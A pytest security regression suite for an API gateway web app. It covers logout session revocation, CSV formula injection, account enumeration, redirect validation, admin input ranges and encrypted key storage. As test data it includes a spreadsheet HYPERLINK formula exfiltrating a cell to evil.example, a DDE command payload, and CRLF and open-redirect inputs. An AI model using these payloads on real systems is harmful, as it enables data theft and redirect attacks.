"""Issue 10, the console and at-rest findings: sessions that outlive logout (4), CSV formula
injection (5), account enumeration and floods (6), out-of-range admin numbers (8) and secrets
at rest (9). On SQLite and PostgreSQL through the `app` fixture; one live-gateway test."""
import csv
import hashlib
import io
import json
import os
import stat
from urllib.parse import quote

import pytest
from cryptography.fernet import Fernet, InvalidToken
from sqlalchemy import create_engine, text

from extensions import db
from models import (ApiKey, Channel, ChannelModel, Group, LedgerEntry, ModelPrice,
                    RedemptionCode, Setting, User, utcnow)
from tests.support import insert_logs, login_session

PASSWORD = "password123"
MEMBER = "member@example.com"
ADMIN = "admin@example.com"
UPSTREAM_KEY = "sk-upstream-at-rest-0123456789abcdef"
HUGE = "99999999999999999999"  # > 2**64: no column holds it


def log_in(client, email=MEMBER, password=PASSWORD, remember=False, **kw):
    data = {"email": email, "password": password}
    if remember:
        data["remember"] = "y"
    return client.post("/login", data=data, **kw)


def opens_keys(client):
    """True when the client's cookies are a logged-in session (/keys serves the page)."""
    return client.get("/keys").status_code == 200


def set_cookies(app, **cookies):
    """A fresh client holding only the given cookies (as copied out of another browser)."""
    thief = app.test_client()
    for name, value in cookies.items():
        thief.set_cookie(name, value)
    return thief


def set_cookie_header(response, name):
    return next(h for h in response.headers.getlist("Set-Cookie") if h.startswith(name + "="))


# --- finding 4: logout ends every copy of the session --------------------------------------

def test_logout_kills_copied_session_and_remember_cookies(app, client, factory):
    factory.user(MEMBER)
    assert log_in(client, remember=True).status_code == 302
    session_cookie = client.get_cookie("session").value
    remember_cookie = client.get_cookie("remember_token").value
    copied_session = set_cookies(app, session=session_cookie)
    copied_remember = set_cookies(app, remember_token=remember_cookie)
    assert opens_keys(copied_session) and opens_keys(copied_remember)  # the copies work...

    assert client.post("/logout").status_code == 302
    for copy in (copied_session, set_cookies(app, session=session_cookie),
                 copied_remember, set_cookies(app, remember_token=remember_cookie)):
        response = copy.get("/keys")  # ...and die with the logout
        assert response.status_code == 302 and response.headers["Location"].startswith("/login")
    assert log_in(client).status_code == 302 and opens_keys(client)  # logging in again works


def test_remember_cookie_carries_the_session_cookie_flags(app, factory):
    factory.user(MEMBER)
    plain = log_in(app.test_client(), remember=True)
    for name in ("session", "remember_token"):
        header = set_cookie_header(plain, name)
        assert "HttpOnly" in header and "SameSite=Lax" in header and "Secure" not in header
    proxied = log_in(app.test_client(), remember=True, headers={"X-Forwarded-Proto": "https"})
    direct = log_in(app.test_client(), remember=True, base_url="https://gateway.example")
    for response in (proxied, direct):
        for name in ("session", "remember_token"):
            header = set_cookie_header(response, name)
            assert "Secure" in header and "HttpOnly" in header and "SameSite=Lax" in header
    # Behind a TLS proxy that sends no X-Forwarded-Proto: the public URL decides.
    app.config["PUBLIC_URL"] = "https://gateway.example"
    behind = log_in(app.test_client(), remember=True)
    assert "Secure" in set_cookie_header(behind, "session")
    assert "Secure" in set_cookie_header(behind, "remember_token")


# --- finding 5: CSV formula injection --------------------------------------------------------

EVIL = {
    "key_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "channel_name": "+1+1",
    "error": "-2+3",
}


def read_csv(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_logs_csv_neutralises_formula_cells_for_members_and_admins(app, client, factory):
    member = factory.user("=1+1@example.com")  # a valid address that is also a formula
    admin = factory.user(ADMIN, is_admin=True)
    with app.app_context():
        insert_logs([{"user_id": member, **EVIL, "credits_micro": 1_500_000},
                     {"user_id": member, "key_name": "\tTAB", "model": "\rCR",
                      "credits_micro": -500_000, "error": None}])
    login_session(client, member)
    mine = read_csv(client.get("/logs.csv"))
    login_session(client, admin)
    everyone = read_csv(client.get("/logs.csv"))
    for rows in (mine, everyone):
        by_key = {row["key_name"]: row for row in rows}
        first = by_key["'" + EVIL["key_name"]]
        assert first["model"] == "'" + EVIL["model"]
        assert first["channel"] == "'" + EVIL["channel_name"]
        assert first["error"] == "'" + EVIL["error"]
        assert first["user"] == "'=1+1@example.com"
        assert (first["prompt_tokens"], first["credits"]) == ("10", "1.5")  # numbers stay numbers
        second = by_key["'\tTAB"]
        assert second["model"] == "'\rCR"
        assert second["credits"] == "-0.5"  # a negative amount we computed is not text
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


def test_codes_csv_neutralises_formula_cells(app, client, factory):
    admin = factory.user(ADMIN, is_admin=True)
    redeemer = factory.user("-2+3@example.com")
    with app.app_context():
        db.session.add(RedemptionCode(code="abc123", amount_micro=2_000_000, batch="b1",
                                      redeemed_by_id=redeemer, redeemed_at=utcnow()))
        db.session.commit()
    login_session(client, admin)
    [row] = read_csv(client.get("/admin/codes.csv?status=all"))
    assert row["redeemed_by"] == "'-2+3@example.com"
    assert (row["code"], row["credits"], row["status"]) == ("abc123", "2", "redeemed")


# --- finding 6: enumeration and floods -------------------------------------------------------

def test_login_costs_one_password_hash_for_known_and_unknown_accounts(app, client, factory,
                                                                      monkeypatch):
    factory.user(MEMBER)
    calls = []
    real_scrypt = hashlib.scrypt

    def counting_scrypt(*args, **kwargs):
        calls.append(1)
        return real_scrypt(*args, **kwargs)

    monkeypatch.setattr(hashlib, "scrypt", counting_scrypt)

    def hashes_for(email, password):
        calls.clear()
        response = log_in(client, email=email, password=password)
        assert response.status_code == 200 and "Wrong email or password." in \
            response.get_data(as_text=True)
        return len(calls)

    hashes_for("warm-up@example.com", "x")  # the dummy hash is made once per process
    known = hashes_for(MEMBER, "wrong-password")
    unknown = hashes_for("nobody@example.com", "wrong-password")
    assert known == unknown == 1


def test_registration_does_not_say_whether_an_email_has_an_account(app, client, factory):
    factory.user("taken@example.com")
    page = client.post("/register", data={"email": "Taken@example.com", "password": PASSWORD,
                                          "confirm": PASSWORD}).get_data(as_text=True)
    assert "already exists" not in page and "exists" not in page
    assert "An account cannot be created with this email address." in page
    assert not opens_keys(client)


def test_invite_mode_checks_the_code_before_the_email(app, client, factory):
    """Without a valid code, a taken and a free address get the same answer."""
    factory.user("taken@example.com")
    with app.app_context():
        Setting.put("registration", "invite")
        db.session.commit()
    answers = set()
    for email in ("taken@example.com", "free@example.com"):
        page = client.post("/register", data={"email": email, "password": PASSWORD,
                                               "confirm": PASSWORD, "code": "bad-code"})
        answers.add(page.get_data(as_text=True).replace(email, "EMAIL"))
    assert len(answers) == 1 and "invite code is unknown" in answers.pop()


def test_register_is_rate_limited_per_ip(app, factory):
    app.config["REGISTER_LIMIT"] = "3 per hour"
    factory.user("taken@example.com")

    def register(email, address):
        return app.test_client().post("/register", data={
            "email": email, "password": PASSWORD, "confirm": PASSWORD},
            environ_base={"REMOTE_ADDR": address})

    assert register("taken@example.com", "10.0.0.1").status_code == 200  # probes count too
    assert register("a@example.com", "10.0.0.1").status_code == 302
    assert register("b@example.com", "10.0.0.1").status_code == 302
    refused = register("c@example.com", "10.0.0.1")
    assert refused.status_code == 429
    assert "Too many registrations" in refused.get_data(as_text=True)
    assert register("d@example.com", "10.0.0.2").status_code == 302  # another address may
    with app.app_context():
        emails = set(db.session.scalars(db.select(User.email)))
    assert "c@example.com" not in emails and "d@example.com" in emails


HOSTILE_NEXT = ["/keys\r\nSet-Cookie: evil=1", "/keys\nX: y", "/\t/evil.example",
                "/\r/evil.example", "/keys\x00", "https://evil.example/", "//evil.example",
                "/\\evil.example", "\\\\evil.example", "javascript:alert(1)", " //evil.example"]


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_next_refuses_control_characters_and_other_hosts(app, factory, target):
    factory.user(MEMBER)
    client = app.test_client()
    response = client.post("/login?next=" + quote(target, safe=""),
                           data={"email": MEMBER, "password": PASSWORD})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    again = client.get("/login?next=" + quote(target, safe=""))  # already logged in
    assert again.status_code == 302 and again.headers["Location"] == "/"


def test_next_keeps_local_paths(app, client, factory):
    factory.user(MEMBER)
    response = client.post("/login?next=" + quote("/logs?model=gpt-4o&status=Failed", safe=""),
                           data={"email": MEMBER, "password": PASSWORD})
    assert response.headers["Location"] == "/logs?model=gpt-4o&status=Failed"


# --- finding 8: out-of-range numbers in admin forms ------------------------------------------

SNAPSHOT_MODELS = (User, Group, Channel, ChannelModel, ModelPrice, LedgerEntry, RedemptionCode,
                   Setting, ApiKey)


def snapshot(app):
    with app.app_context():
        db.session.expire_all()
        return {model.__tablename__: sorted(
            tuple(str(getattr(row, c.key)) for c in model.__table__.columns)
            for row in db.session.scalars(db.select(model))) for model in SNAPSHOT_MODELS}


@pytest.fixture
def admin_client(app, client, factory):
    admin = factory.user(ADMIN, is_admin=True)
    factory.user(MEMBER)
    factory.channel("existing", type="mock", models="m1")
    login_session(client, admin)
    return client


def admin_form_cases(app):
    with app.app_context():
        member = db.session.scalar(db.select(User.id).filter_by(email=MEMBER))
        channel = db.session.scalar(db.select(Channel.id).filter_by(name="existing"))
        group = db.session.scalar(db.select(Group.id).filter_by(name="default"))
    channel_form = {"name": "main", "type": "mock", "base_url": "", "api_key": "",
                    "models": "m2", "priority": "0", "weight": "1", "enabled": "y"}
    group_form = {"name": "team", "models": "*", "rpm": "60", "tpm": "0", "multiplier": "1"}
    price_form = {"model": "m1", "input": "1", "output": "2", "cached_input": "",
                  "per_request": ""}
    codes_form = {"amount": "1", "count": "10", "expires_days": ""}
    settings_form = {"registration": "open", "signup_bonus": "0", "default_output_cap": "4096"}
    key_form = {"name": "k", "expires_days": "", "credit_limit": "", "models": "",
                "allowed_ips": "", "rpm": "0"}
    balance_form = {"direction": "credit", "amount": "1", "note": ""}
    cases = []
    for value in ("1e19", HUGE, "-" + HUGE):
        cases += [
            ("/admin/channels/new", {**channel_form, "priority": value}),
            ("/admin/channels/new", {**channel_form, "weight": value}),
            (f"/admin/channels/{channel}/edit", {**channel_form, "name": "existing",
                                                 "priority": value}),
            ("/admin/groups/new", {**group_form, "rpm": value}),
            ("/admin/groups/new", {**group_form, "tpm": value}),
            ("/admin/groups/new", {**group_form, "multiplier": value}),
            (f"/admin/groups/{group}/edit", {**group_form, "name": "default", "rpm": value}),
            ("/admin/prices/set", {**price_form, "input": value}),
            ("/admin/prices/set", {**price_form, "output": value}),
            ("/admin/prices/set", {**price_form, "cached_input": value}),
            ("/admin/prices/set", {**price_form, "per_request": value}),
            ("/admin/codes", {**codes_form, "amount": value}),
            ("/admin/codes", {**codes_form, "count": value}),
            ("/admin/codes", {**codes_form, "expires_days": value}),
            ("/admin/settings", {**settings_form, "signup_bonus": value}),
            ("/admin/settings", {**settings_form, "default_output_cap": value}),
            (f"/admin/users/{member}/balance", {**balance_form, "amount": value}),
            (f"/admin/users/{member}/keys", {**key_form, "expires_days": value}),
            (f"/admin/users/{member}/keys", {**key_form, "credit_limit": value}),
            (f"/admin/users/{member}/keys", {**key_form, "rpm": value}),
        ]
    cases += [("/admin/codes", {**codes_form, "expires_days": "99999999"}),
              ("/admin/users/%d/keys" % member, {**key_form, "expires_days": "99999999"}),
              ("/admin/groups/new", {**group_form, "multiplier": "1001"}),
              ("/admin/channels/new", {**channel_form, "priority": "1000001"})]
    return cases


def test_out_of_range_numbers_in_admin_forms_are_form_errors(app, admin_client):
    before = snapshot(app)
    failures = []
    for url, data in admin_form_cases(app):
        response = admin_client.post(url, data=data)
        html = response.get_data(as_text=True)
        if response.status_code != 400 or 'class="field-error"' not in html:
            failures.append((url, data, response.status_code))
    assert not failures, failures
    assert snapshot(app) == before


@pytest.mark.parametrize("args", [
    ["channels", "add", "c", "--type", "mock", "--models", "m", "--priority", HUGE],
    ["channels", "add", "c", "--type", "mock", "--models", "m", "--weight", HUGE],
    ["channels", "edit", "existing", "--priority", "1e19"],
    ["groups", "set", "team", "--rpm", HUGE],
    ["groups", "set", "team", "--tpm", HUGE],
    ["groups", "set", "team", "--multiplier", "1e19"],
    ["prices", "set", "m1", "--input", "1e19", "--output", "1"],
    ["prices", "set", "m1", "--input", "1", "--output", "1", "--per-request", HUGE],
    ["credits", "grant", MEMBER, "1e19"],
    ["credits", "grant", MEMBER, "-1e19"],
    ["codes", "create", "--amount", "1e19"],
    ["codes", "create", "--amount", "1", "--count", HUGE],
    ["codes", "create", "--amount", "1", "--expires-days", "99999999"],
    ["keys", "create", MEMBER, "--name", "k", "--credit-limit", "1e19"],
    ["keys", "create", MEMBER, "--name", "k", "--rpm", HUGE],
    ["keys", "create", MEMBER, "--name", "k", "--expires-days", "99999999"],
])
def test_out_of_range_numbers_on_the_cli_are_usage_errors(app, runner, factory, args):
    factory.user(MEMBER)
    factory.channel("existing", type="mock", models="m1")
    before = snapshot(app)
    result = runner.invoke(args=args)
    assert result.exit_code == 2, (result.output, result.exception)
    assert "Invalid value" in result.stderr and "Traceback" not in result.output
    assert snapshot(app) == before


# --- finding 9: secrets at rest ------------------------------------------------------------

def stored_key(app, name):
    """channels.api_key as the database holds it, read with plain SQL."""
    with app.app_context():
        return db.session.execute(text("SELECT api_key FROM channels WHERE name = :n"),
                                  {"n": name}).scalar_one()


def routed_key(app, model):
    """The upstream key the router would send for `model` (None when no channel is routed)."""
    from blueprints.api.routing import routes_for
    with app.test_request_context():
        routes = routes_for(model)
        return routes[0].target.api_key if routes else None


def run_cli(app, *args):
    return app.test_cli_runner().invoke(args=list(args))


def test_channel_keys_are_encrypted_in_the_database(app, runner, factory):
    factory.channel("main", api_key=UPSTREAM_KEY, models="gpt-4o-mini")
    raw = stored_key(app, "main")
    assert UPSTREAM_KEY not in raw and UPSTREAM_KEY[-8:] not in raw
    # Derived from the secret key when TOKENOPEN_ENCRYPTION_KEY is unset (HKDF-SHA256).
    from encryption import derived_key
    assert Fernet(derived_key("test")).decrypt(raw.encode()).decode() == UPSTREAM_KEY
    assert routed_key(app, "gpt-4o-mini") == UPSTREAM_KEY
    listed = runner.invoke(args=["channels", "list", "--json"]).output
    assert UPSTREAM_KEY not in listed and raw not in listed
    assert json.loads(listed)[0]["api_key"] == "sk-…cdef"
    # Console and CLI edits store a token too, never the text typed.
    assert runner.invoke(args=["channels", "edit", "main", "--api-key", "sk-cli-typed-key-1"]
                         ).exit_code == 0
    assert "sk-cli-typed-key-1" not in stored_key(app, "main")
    assert routed_key(app, "gpt-4o-mini") == "sk-cli-typed-key-1"


def test_plain_text_keys_of_older_versions_keep_working_until_reencrypted(app, factory):
    factory.channel("legacy", api_key="placeholder", models="gpt-4o-mini")
    with app.app_context():
        db.session.execute(text("UPDATE channels SET api_key = 'sk-legacy-plain-1234'"))
        db.session.commit()
    assert routed_key(app, "gpt-4o-mini") == "sk-legacy-plain-1234"
    result = run_cli(app, "channels", "reencrypt")
    assert result.exit_code == 0 and "re-encrypted 1 channel key" in result.output
    assert stored_key(app, "legacy").startswith("gAAAAA")
    assert routed_key(app, "gpt-4o-mini") == "sk-legacy-plain-1234"
    assert "re-encrypted 0 channel key" in run_cli(app, "channels", "reencrypt").output


def test_bootstrap_encrypts_the_plain_text_keys_of_an_older_version(tmp_path):
    """`make run` runs `flask bootstrap` (init-db alike) at every start: an upgraded install
    keeps its channels, now encrypted."""
    from encryption import derived_key
    from tests.test_cli import flask_cli
    url = f"sqlite:///{tmp_path}/upgraded.db"
    flask_cli(url, "init-db")
    engine = create_engine(url)
    with engine.begin() as conn:  # what an older version left behind
        conn.execute(text(
            "INSERT INTO channels (name, type, base_url, api_key, priority, weight, enabled, "
            "fail_count, created_at) VALUES ('old', 'openai', 'https://api.example', "
            "'sk-plain-from-before', 0, 1, 1, 0, '2026-01-01 00:00:00')"))
    assert "encrypted the upstream keys of 1 channel" in flask_cli(url, "bootstrap")
    with engine.connect() as conn:
        raw = conn.execute(text("SELECT api_key FROM channels")).scalar_one()
    engine.dispose()
    assert Fernet(derived_key("cli-test")).decrypt(raw.encode()) == b"sk-plain-from-before"
    assert "encrypted" not in flask_cli(url, "init-db")  # nothing left to do


def test_rotating_the_encryption_key(app, factory):
    first, second, third = (Fernet.generate_key().decode() for _ in range(3))
    factory.channel("main", api_key=UPSTREAM_KEY, models="gpt-4o-mini")
    factory.channel("keyless", type="mock", api_key="", models="m1")

    # 1. From the derived key to an explicit one: old tokens stay readable, then move.
    app.config["ENCRYPTION_KEY"] = first
    assert routed_key(app, "gpt-4o-mini") == UPSTREAM_KEY
    assert "re-encrypted 1 channel key" in run_cli(app, "channels", "reencrypt").output
    assert Fernet(first).decrypt(stored_key(app, "main").encode()).decode() == UPSTREAM_KEY
    assert stored_key(app, "keyless") == ""

    # 2. Rotation: the new key first, the old one after it until everything moved.
    app.config["ENCRYPTION_KEY"] = f"{second}, {first}"
    assert routed_key(app, "gpt-4o-mini") == UPSTREAM_KEY
    assert "re-encrypted 1 channel key" in run_cli(app, "channels", "reencrypt").output
    app.config["ENCRYPTION_KEY"] = second
    assert routed_key(app, "gpt-4o-mini") == UPSTREAM_KEY
    with pytest.raises(InvalidToken):
        Fernet(first).decrypt(stored_key(app, "main").encode())

    # 3. A key dropped too early: the channel is skipped and reported, never a 500.
    app.config["ENCRYPTION_KEY"] = third
    assert routed_key(app, "gpt-4o-mini") is None
    listed = run_cli(app, "channels", "list").output
    assert "unreadable" in listed and UPSTREAM_KEY not in listed
    result = run_cli(app, "channels", "reencrypt")
    assert result.exit_code == 1 and "main" in result.stderr
    admin = login_session(app.test_client(), factory.user(ADMIN, is_admin=True))
    with app.app_context():
        channel_id = db.session.scalar(db.select(Channel.id).filter_by(name="main"))
    assert admin.get("/admin/channels").status_code == 200
    assert admin.get(f"/admin/channels/{channel_id}/edit").status_code == 200
    assert admin.post(f"/admin/channels/{channel_id}/test").status_code == 302
    # Typing the key again repairs it.
    assert run_cli(app, "channels", "edit", "main", "--api-key", UPSTREAM_KEY).exit_code == 0
    assert routed_key(app, "gpt-4o-mini") == UPSTREAM_KEY


def test_a_malformed_encryption_key_stops_the_app_at_start(tmp_path):
    from app import create_app
    with pytest.raises(ValueError, match="TOKENOPEN_ENCRYPTION_KEY entry 2"):
        create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path}/x.db", "SECRET_KEY": "t",
                    "ENCRYPTION_KEY": Fernet.generate_key().decode() + ",not-a-key"})


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_database_file_and_instance_secrets_are_owner_only(tmp_path):
    from app import create_app
    from config import load_config
    instance = tmp_path / "instance"
    load_config(str(instance), env={})
    assert mode(instance) == 0o700 and mode(instance / "secret_key") == 0o600

    path = tmp_path / "data" / "tokenopen.db"
    app = create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}", "SECRET_KEY": "t"})
    with app.app_context():
        db.create_all()
        db.session.execute(text("SELECT 1"))
        assert mode(path) == 0o600
        assert mode(str(path) + "-wal") == 0o600  # SQLite copies the database file's mode
        db.engine.dispose()

    older = tmp_path / "older.db"  # a file an older version created world-readable
    older.write_bytes(b"")
    os.chmod(older, 0o644)
    create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{older}", "SECRET_KEY": "t"})
    assert mode(older) == 0o600


def _first_session_key(instance, start):
    from config import load_config
    start.wait()
    return load_config(instance, env={})["SECRET_KEY"]


def test_processes_starting_together_share_one_whole_session_key(tmp_path):
    """Eight processes build their settings at the same instant on an empty instance folder
    (gunicorn workers, test runners): none fails, all read the same 64-hex key, and no
    draft file is left behind."""
    import multiprocessing
    instance = str(tmp_path / "instance")
    context = multiprocessing.get_context("spawn")
    with context.Manager() as manager:
        start = manager.Barrier(8)
        with context.Pool(8) as pool:
            keys = pool.starmap(_first_session_key, [(instance, start)] * 8)
    assert len(set(keys)) == 1 and len(keys[0]) == 64, keys
    assert sorted(os.listdir(instance)) == ["secret_key"]
    assert mode(os.path.join(instance, "secret_key")) == 0o600


def test_live_gateway_sends_the_decrypted_key_and_stores_a_token(gateway):
    import openai
    key = gateway.member(credits=10)
    client = openai.OpenAI(base_url=gateway.base_url, api_key=key, max_retries=0, timeout=20)
    client.chat.completions.create(model="gpt-4o-mini",
                                   messages=[{"role": "user", "content": "hi"}])
    [seen] = [e for e in gateway.upstream.events() if e["type"] == "request"]
    assert seen["auth"] == "Bearer sk-upstream-secret"
    raw = gateway.scalar(text("SELECT api_key FROM channels"))
    assert raw.startswith("gAAAAA") and "sk-upstream-secret" not in raw
